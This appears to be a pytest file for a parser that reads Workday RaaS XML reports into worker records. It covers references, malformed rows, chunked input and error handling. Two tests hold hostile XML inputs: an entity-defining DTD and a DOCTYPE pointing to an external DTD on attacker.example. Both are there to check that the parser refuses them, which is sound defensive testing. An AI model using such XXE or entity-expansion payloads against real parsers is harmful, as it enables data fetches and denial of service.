from __future__ import annotations

from datetime import date

import pytest

from adapters.workday.errors import RaasReportError
from adapters.workday.raas.url import ReportFormat
from domain.workers import MalformedRow, Worker

from .reports import WID_1, WID_2, chunked, read, reference, simple_xml_body, workday_xml_body

XML = ReportFormat.WORKDAY_XML
SIMPLE = ReportFormat.SIMPLE_XML

ANN = {
    "wid": WID_1,
    "first_name": "Ann",
    "last_name": "Lee",
    "employee_id": "21001",
    "termination_date": "2024-05-01-07:00",
}
ANN_WORKER = Worker(WID_1, "21001", "Ann", "Lee", date(2024, 5, 1))


def test_reads_workday_xml_rows_as_workers() -> None:
    assert read(workday_xml_body([ANN]), XML) == [ANN_WORKER]


def test_any_report_name_in_the_namespace_works() -> None:
    assert read(workday_xml_body([ANN], report_name="Some_Other_Report"), XML) == [ANN_WORKER]


def test_a_wid_column_that_is_a_reference_gives_its_wid_id_and_an_employee_id_column_its_employee_id() -> None:
    worker_ref = reference("Ann Lee", WID=WID_1, Employee_ID="21001")
    row = {**ANN, "wid": worker_ref, "employee_id": worker_ref}

    assert read(workday_xml_body([row]), XML) == [ANN_WORKER]


def test_a_reference_in_a_text_field_gives_its_descriptor() -> None:
    row = {**ANN, "first_name": reference("Ann", WID=WID_2)}

    assert read(workday_xml_body([row]), XML) == [ANN_WORKER]


def test_an_identifier_never_falls_back_to_a_descriptor() -> None:
    row = {**ANN, "employee_id": reference("Ann Lee", WID=WID_1)}

    (entry,) = read(workday_xml_body([row]), XML)

    assert isinstance(entry, MalformedRow)
    assert (entry.row_number, entry.field) == (1, "employee_id")


def test_an_alias_into_a_repeated_group_takes_the_first_non_empty_value() -> None:
    row = {**ANN, "Email_group": [{"Email_Address": ""}, {"Email_Address": "ann@example.com"}]}

    (worker,) = read(workday_xml_body([row]), XML, columns={"email": "Email_group.Email_Address"})

    assert isinstance(worker, Worker)
    assert worker.email == "ann@example.com"


def test_absent_columns_are_none() -> None:
    row = {key: value for key, value in ANN.items() if key != "termination_date"}

    assert read(workday_xml_body([row]), XML) == [Worker(WID_1, "21001", "Ann", "Lee")]


def test_reads_simple_xml_rows_as_workers() -> None:
    assert read(simple_xml_body([ANN, {**ANN, "wid": "nope"}]), SIMPLE) == [
        ANN_WORKER,
        MalformedRow(2, "wid", read(simple_xml_body([{**ANN, "wid": "nope"}]), SIMPLE)[0].reason, None, "21001"),  # type: ignore[union-attr]
    ]


@pytest.mark.parametrize("size", [1, 7, 333])
def test_any_chunking_of_the_body_gives_the_same_entries(size: int) -> None:
    ref = reference("Ann Lee", WID=WID_1, Employee_ID="21001")
    body = workday_xml_body([ANN, {**ANN, "wid": ref}, {**ANN, "last_name": ""}])

    assert read(chunked(body, size), XML) == read(body, XML)


def test_an_empty_report_has_no_entries() -> None:
    assert read(workday_xml_body([]), XML) == []


def test_a_body_with_a_dtd_is_refused() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE wd:Report_Data [<!ENTITY lol "lol">]>'
        b'<wd:Report_Data xmlns:wd="urn:com.workday.report/R"><wd:Report_Entry><wd:first_name>&lol;'
        b"</wd:first_name></wd:Report_Entry></wd:Report_Data>"
    )

    with pytest.raises(RaasReportError, match="report body contains a DTD; refused"):
        read(body, XML)


def test_a_dtd_pointing_at_an_external_file_is_refused_even_in_one_byte_chunks() -> None:
    body = b'<!DOCTYPE Report_Data SYSTEM "http://attacker.example/x.dtd"><Report_Data></Report_Data>'

    with pytest.raises(RaasReportError, match="report body contains a DTD; refused"):
        read(chunked(body, 1), SIMPLE)


def test_a_body_that_is_not_xml_is_refused() -> None:
    with pytest.raises(RaasReportError, match=r"not XML.*Report_Entry"):
        read(b'{"Report_Entry": []}', XML)


def test_xml_that_is_not_a_report_is_refused() -> None:
    with pytest.raises(RaasReportError, match="root element 'html'"):
        read(b"<html><body>Sign in</body></html>", XML)


def test_a_body_cut_short_raises_after_the_complete_rows() -> None:
    body = workday_xml_body([ANN, ANN, ANN])
    cut = body[: body.rindex(b"<wd:Report_Entry>") + 30]

    with pytest.raises(RaasReportError, match="the report was cut short after 2 rows"):
        read(cut, XML)


def test_an_empty_body_is_refused() -> None:
    with pytest.raises(RaasReportError, match="empty"):
        read(b"", XML)
